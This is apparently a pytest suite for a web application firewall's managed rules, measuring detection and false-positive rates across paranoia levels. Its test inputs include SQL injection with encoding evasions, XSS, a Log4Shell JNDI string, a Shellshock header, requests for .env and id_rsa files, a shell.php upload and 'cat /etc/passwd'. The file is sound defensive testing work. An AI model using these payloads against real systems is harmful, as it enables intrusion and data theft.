"""Managed rules against a labelled corpus: detection and false-positive rates per paranoia level."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import pytest

from edgeline.filtering import ManagedRules, RequestView
from edgeline.messages import Request

from .corpus import CODE_SNIPPETS_FLAGGED, Entry, attacks, benign, code_snippets


def view_of(entry: Entry) -> RequestView:
    _, method, target, headers, body = entry
    headers = dict(headers)
    if headers.get("host") == "":
        del headers["host"]  # the "missing Host" attack
    else:
        headers.setdefault("host", "shop.example.com")
    request = Request(method, "https://shop.example.com" + target, list(headers.items()), body)
    return RequestView(request, None, body=body)


def rates(paranoia: int) -> tuple[float, float, list[Entry], list[tuple[Entry, object]]]:
    rules = ManagedRules(paranoia)
    hostile, friendly = attacks(), benign()
    missed = [e for e in hostile if rules.inspect(view_of(e)) is None]
    flagged = [(e, hit) for e in friendly if (hit := rules.inspect(view_of(e))) is not None]
    return (1 - len(missed) / len(hostile), len(flagged) / len(friendly), missed, flagged)


# Floors and ceilings for this corpus. The third set (SECOND_HOLDOUT_*) added benign values
# that the broad levels flag by design (HTML tags, SQL words, internal URLs): on the corpus
# without it the ceilings of levels 2-4 were 0.04, 0.15 and 0.35 (measured 0.026, 0.106, 0.278).
# The fourth and fifth sets (LOCATED_*, FRESH_*, benign_requests) send values in every part
# of a request; measured with them: detection 0.990, 0.995, 0.995, 0.997 and false positives
# 0.003, 0.044, 0.102, 0.208 at levels 1-4.
@pytest.mark.parametrize(("paranoia", "min_detection", "max_false_positives"), [
    (1, 0.985, 0.01), (2, 0.99, 0.06), (3, 0.99, 0.13), (4, 0.99, 0.25),
])
def test_detection_and_false_positive_rates(paranoia: int, min_detection: float,
                                            max_false_positives: float) -> None:
    detection, false_positives, missed, flagged = rates(paranoia)
    assert detection >= min_detection, [e[:3] for e in missed]
    assert false_positives <= max_false_positives, [(e[2], e[4][:60], h) for e, h in flagged]


def test_every_attack_class_is_covered_at_level_1() -> None:
    rules = ManagedRules(1)
    seen: dict[str, set[str]] = {}
    for entry in attacks():
        hit = rules.inspect(view_of(entry))
        if hit is not None:
            seen.setdefault(entry[0], set()).add(hit.id.split("-")[1])
    assert set(seen) == {e[0] for e in attacks()}


def test_higher_levels_only_add() -> None:
    hostile = attacks()
    for low, high in ((1, 2), (2, 3), (3, 4)):
        a, b = ManagedRules(low), ManagedRules(high)
        caught_low = {i for i, e in enumerate(hostile) if a.inspect(view_of(e))}
        caught_high = {i for i, e in enumerate(hostile) if b.inspect(view_of(e))}
        assert caught_low <= caught_high


@pytest.mark.parametrize("payload", [
    "%2527%2520OR%25201%253D1--",              # double-encoded
    "1%27%20/*!50000UnIoN*/%20SeLeCt%201,2--",  # inline comment, mixed case
    "%EF%BC%9Cscript%EF%BC%9Ealert(1)",         # full-width < >
    "%26%23x3c;svg%20onload=alert(1)%26%23x3e;",  # HTML entities, encoded for the URL
    "java%09script%3Aalert(1)",                 # tab inside the scheme
    "%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D",
])
def test_evasions_are_normalized_away(payload: str) -> None:
    entry: Entry = ("x", "GET", "/search?q=" + payload, {"user-agent": "Mozilla/5.0",
                                                          "accept": "*/*"}, b"")
    assert ManagedRules(1).inspect(view_of(entry)) is not None, payload


def test_one_line_of_code_in_a_body_field_is_matched_as_a_body() -> None:
    from edgeline.filtering._signatures import _CODE_PRONE, SIGNATURES

    flagged = {}
    for entry in code_snippets():
        hit = ManagedRules(1).inspect(view_of(entry))
        if hit is not None:
            flagged[entry[4].decode()] = hit.id
    assert {body for body in flagged} == {
        body for entry in code_snippets() for body in [entry[4].decode()]
        if any(json.dumps(s)[1:-1] in body or quote(s, safe="") in body
               for s in CODE_SNIPPETS_FLAGGED)}, flagged
    assert not set(flagged.values()) & _CODE_PRONE
    # and no signature set off by code is matched against body fields
    fields = {s[0] for group in SIGNATURES.values() for s in group if "v" in s[2]}
    assert not fields & _CODE_PRONE and "EL-SQLI-101" in fields and "EL-SQLI-140" in fields


def _request(target: str, headers: dict[str, str], body: bytes = b"") -> RequestView:
    fields = {"host": "shop.example.com", "user-agent": "Mozilla/5.0", "accept": "*/*", **headers}
    request = Request("POST" if body else "GET", "https://shop.example.com" + target,
                      list(fields.items()), body)
    return RequestView(request, None, body=body)


@pytest.mark.parametrize(("target", "headers", "body", "rule", "where"), [
    ("/s?file=.env", {}, b"", "EL-LFI-104", "args:file"),
    ("/s?f=id_rsa&page=2", {}, b"", "EL-LFI-104", "args:f"),
    ("/s", {"cookie": "a=1; %3Cscript%3Ealert(1)%3C/script%3E=1"}, b"", "EL-XSS-100", "cookie:"),
    ("/s", {"referer": "https://x.example/?q=admin%27--"}, b"", "EL-SQLI-140", "header:referer"),
    ("/s", {"accept-language": "${jndi:ldap://x.example/a}"}, b"", "EL-JAVA-100",
     "header:accept-language"),
    ("/s", {"x-forwarded-for": "() { :; }; /bin/id"}, b"", "EL-RCE", "header:x-forwarded-for"),
    ("/s/1%27%20or%20%271%27%3D%271", {}, b"", "EL-SQLI-170", "path"),
    ("/up", {"content-type": "multipart/form-data; boundary=----WebKitFormBoundaryAbC"},
     b'------WebKitFormBoundaryAbC\r\nContent-Disposition: form-data; name="q"\r\n\r\n'
     b"1' AND extractvalue(1,concat(0x7e,version()))--\r\n------WebKitFormBoundaryAbC--\r\n",
     "EL-SQLI", "body:q"),
    ("/up", {"content-type": "multipart/form-data; boundary=b"},
     b'--b\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\nGIF89a\r\n--b--\r\n',
     "EL-PHP-104", "body:filename"),
    ("/s", {}, b"user=admin%27--&pass=x", "EL-SQLI-140", "body:user"),  # no Content-Type
    ("/api", {"content-type": "application/json"}, b'{"user": "admin", "pass": {"$ne": null}}',
     "EL-NOSQL-104", "body:$ne"),
    ("/api", {"content-type": "application/xml"}, b"<a><b>1; cat /etc/passwd</b></a>", "EL-",
     "body"),
])
def test_each_location_is_inspected(target: str, headers: dict[str, str], body: bytes, rule: str,
                                    where: str) -> None:
    hit = ManagedRules(1).inspect(_request(target, headers, body))
    assert hit is not None and hit.id.startswith(rule) and hit.where.startswith(where), hit


def test_large_values_are_bounded() -> None:
    from edgeline.filtering._managed import MAX_VALUE
    from edgeline.filtering._view import MAX_BODY

    seen: list[int] = []

    class Recording(ManagedRules):
        __slots__ = ()

        def _verdict(self, target: str, value: str) -> Any:
            seen.append(len(value))
            return super()._verdict(target, value)

    value = "a'" * 50_000
    entry: Entry = ("x", "POST", "/api", {"content-type": "application/json", "user-agent": "x",
                                          "accept": "*/*"}, json.dumps({"v": value}).encode())
    Recording(4).inspect(view_of(entry))
    # The body is read up to MAX_BODY and no signature sees more than MAX_VALUE characters.
    assert seen and max(seen) <= MAX_VALUE < MAX_BODY < len(value)


def report() -> str:
    """Return the per-level rates (used to write the figures in the report)."""
    lines = []
    for level in (1, 2, 3, 4):
        detection, fp, _, _ = rates(level)
        lines.append(f"PL{level}: detection {detection:.3f}, false positives {fp:.3f}")
    return "\n".join(lines)


if __name__ == "__main__":
    print(report())
